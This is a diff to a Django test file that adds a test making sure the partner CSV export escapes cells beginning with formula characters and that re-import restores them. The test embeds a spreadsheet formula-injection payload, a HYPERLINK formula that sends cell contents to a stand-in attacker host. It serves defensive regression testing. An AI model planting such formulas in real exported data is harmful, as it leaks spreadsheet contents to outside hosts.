@@ -1,5 +1,8 @@
 """CSV import and export of partners (SPEC §7 "Admins"): all or nothing, errors by line."""
 
+import csv
+import io
+
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -106,6 +109,35 @@ def test_admin_export_gives_the_csv_of_the_filtered_partners(staff_client):
         HEADER,
         "anna,Anna,anna@example.com,,,active,,true,true",
     ]
+
+
+def test_the_admin_export_never_hands_a_spreadsheet_a_formula_a_partner_typed(staff_client, client):
+    """A partner names themself with a formula in the Partner Center; staff export the
+    partners in the admin and open the file: the cell must be text (issue 21, finding 5)."""
+    from tests.functional.test_partner_center import logged_in, partner_with_login
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    mallory = partner_with_login("mallory", name="Mallory", email="m@example.com")
+    profile = logged_in(mallory).post(
+        "/partner/profile/",
+        {"name": formula, "email": "m@example.com", "notify_lead": "on", "notify_sale": "on"},
+    )
+    assert profile.status_code == 302
+    PartnerFactory(code="plus", name="+1 555 0100", email="-plus@example.com")
+    fields = {f"partnerresource_{name}": "on" for name in COLUMNS}
+
+    response = staff_client.post(EXPORT_URL, {"format": "0", "resource": "0", **fields})
+
+    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
+    assert rows["mallory"]["name"] == "'" + formula
+    assert (rows["plus"]["name"], rows["plus"]["email"]) == ("'+1 555 0100", "'-plus@example.com")
+    cells = [cell for row in rows.values() for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # Imported again, the file gives back the names as typed.
+    Partner.objects.filter(code__in=["mallory", "plus"]).update(name="changed", email="c@x.io")
+    partners_import_csv(text=response.content.decode())
+    assert Partner.objects.get(code="mallory").name == formula
+    assert Partner.objects.get(code="plus").email == "-plus@example.com"
 
 
 # --- Import: good files ------------------------------------------------------------------
